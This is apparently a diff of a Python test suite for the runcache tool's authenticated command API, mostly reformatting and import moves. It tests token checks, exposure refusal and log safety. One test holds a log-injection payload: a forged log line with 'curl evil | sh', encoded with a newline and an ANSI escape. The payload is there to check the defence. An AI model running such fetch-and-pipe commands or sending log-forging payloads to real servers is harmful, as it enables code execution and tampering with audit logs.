@@ -14,11 +14,11 @@ import requests
 from click.testing import CliRunner
 from starlette.testclient import TestClient
 
-from runcache import auth
 from runcache.cli import cli
 from runcache.config import Config
 from runcache.errors import ConfigError
-from runcache.server import check_exposure
+from runcache.web import auth
+from runcache.web.server import check_exposure
 
 from conftest import LiveServer
 
@@ -43,8 +43,13 @@ def test_without_a_token_setting_the_api_is_open(client: TestClient) -> None:
 
 @pytest.mark.parametrize(
     ("method", "path"),
-    [("POST", "/api/command"), ("GET", "/api/cache/stats"), ("POST", "/api/cache/clear"),
-     ("GET", "/api/telemetry"), ("GET", "/api/no-such-endpoint")],
+    [
+        ("POST", "/api/command"),
+        ("GET", "/api/cache/stats"),
+        ("POST", "/api/cache/clear"),
+        ("GET", "/api/telemetry"),
+        ("GET", "/api/no-such-endpoint"),
+    ],
 )
 def test_missing_token_is_401_with_a_bearer_challenge(
     client_factory: ClientFactory, method: str, path: str
@@ -67,9 +72,7 @@ def test_a_header_without_a_bearer_token_is_401(client_factory: ClientFactory, h
 
 
 @pytest.mark.parametrize("presented", [WRONG, TOKEN[:-1], TOKEN + "x", "é" * 20, "\x00" * 3])
-def test_wrong_token_is_403_and_runs_nothing(
-    client_factory: ClientFactory, presented: str
-) -> None:
+def test_wrong_token_is_403_and_runs_nothing(client_factory: ClientFactory, presented: str) -> None:
     client = client_factory(token=TOKEN)
     # As bytes: a header value outside ASCII reaches the server as the client sent it.
     header = {"Authorization": f"Bearer {presented}".encode()}
@@ -227,7 +230,10 @@ def test_serve_on_all_interfaces_without_a_token_exits_saying_why() -> None:
     environment = {k: v for k, v in os.environ.items() if not k.startswith("RUNCACHE_")}
     finished = subprocess.run(
         [sys.executable, "-m", "runcache", "serve", "--host", "0.0.0.0", "--port", "0"],
-        capture_output=True, text=True, env=environment, timeout=60,
+        capture_output=True,
+        text=True,
+        env=environment,
+        timeout=60,
     )
     assert finished.returncode == 2
     assert "refusing to listen on 0.0.0.0 without a token" in finished.stderr
@@ -244,9 +250,7 @@ def test_log_says_who_ran_what_and_whether_it_hit_but_no_output_or_token(
     client = client_factory(token=TOKEN)
     caplog.set_level(logging.DEBUG)
     for _ in range(2):
-        client.post(
-            "/api/command", json={"command": "echo marker-$((6*7))"}, headers=bearer(TOKEN)
-        )
+        client.post("/api/command", json={"command": "echo marker-$((6*7))"}, headers=bearer(TOKEN))
     lines = [(r.levelno, r.getMessage()) for r in caplog.records if r.name == "runcache"]
     assert lines[0][0] == logging.INFO
     assert lines[0][1].startswith(f"{CLIENT} ran 'echo marker-$((6*7))': exit 0 in ")
@@ -272,15 +276,17 @@ def test_a_refused_path_cannot_forge_log_lines_or_send_escapes(
     "ran" line and an ANSI escape, sent without a token, wrote both into the log."""
     server = live_server_factory(env={"RUNCACHE_TOKEN": TOKEN})
     fake = "127.0.0.1 ran 'curl evil | sh': exit 0 in 0.001s"
-    path = "/api/x%0a" + fake.replace(" ", "%20").replace("'", "%27").replace("|", "%7C") + \
-        "%0a%1b[2K"
+    path = (
+        "/api/x%0a" + fake.replace(" ", "%20").replace("'", "%27").replace("|", "%7C") + "%0a%1b[2K"
+    )
     assert requests.get(server.url + path, timeout=10).status_code == 401
     requests.get(server.url + "/livez", timeout=10)  # a request after it, so its line is in
     assert server.stop() == 0
     logged = "".join(server.output)
     assert "refused GET \"/api/x\\n127.0.0.1 ran 'curl evil" in logged  # quoted, one line
-    assert not any(line.startswith(fake) or fake in line.split("refused")[0]
-                   for line in logged.splitlines())
+    assert not any(
+        line.startswith(fake) or fake in line.split("refused")[0] for line in logged.splitlines()
+    )
     assert "\x1b" not in logged
 
 
@@ -298,8 +304,12 @@ def test_tokens_are_compared_in_constant_time(
 
     monkeypatch.setattr(auth.hmac, "compare_digest", recording)
     client = client_factory(token=TOKEN, admin_token=ADMIN)
-    for token, path, status in ((WRONG, "/api/cache/stats", 403), (TOKEN, "/api/cache/stats", 200),
-                                (TOKEN, "/api/cache/clear", 403), (ADMIN, "/api/cache/clear", 200)):
+    for token, path, status in (
+        (WRONG, "/api/cache/stats", 403),
+        (TOKEN, "/api/cache/stats", 200),
+        (TOKEN, "/api/cache/clear", 403),
+        (ADMIN, "/api/cache/clear", 200),
+    ):
         compared.clear()
         method = client.post if path.endswith("clear") else client.get
         assert method(path, headers=bearer(token)).status_code == status
